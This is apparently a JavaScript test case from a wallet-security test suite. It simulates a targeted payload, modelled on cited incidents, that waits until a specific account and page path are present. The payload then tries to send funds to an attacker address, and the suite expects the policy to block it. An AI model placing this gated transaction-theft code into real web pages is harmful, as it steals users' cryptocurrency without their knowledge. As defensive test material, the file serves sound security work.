// B03: the payload sleeps until the account, the path and a moment are right.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'B03',
  title: 'payload gated by account, path and time',
  source: 'Safe{Wallet} 2025, Gate.io 2018, KLAYswap 2022: targeted payloads',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const gate = async () => {
      const [account] = await window.ethereum.request({ method: 'eth_accounts' });
      return account?.toLowerCase() === a.USER.toLowerCase() && location.pathname.startsWith('/run/');
    };
    while (!(await gate())) await new Promise((resolve) => setTimeout(resolve, 50));
    await new Promise((resolve) => setTimeout(resolve, 100));
    const tx = { from: a.USER, to: a.EVIL, value: '0x5' };
    return window.ethereum.request({ method: 'eth_sendTransaction', params: [tx] }).catch((error) => error.code);
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ surface: 'eip1193', role: 'payee', account: a.EVIL }),
};
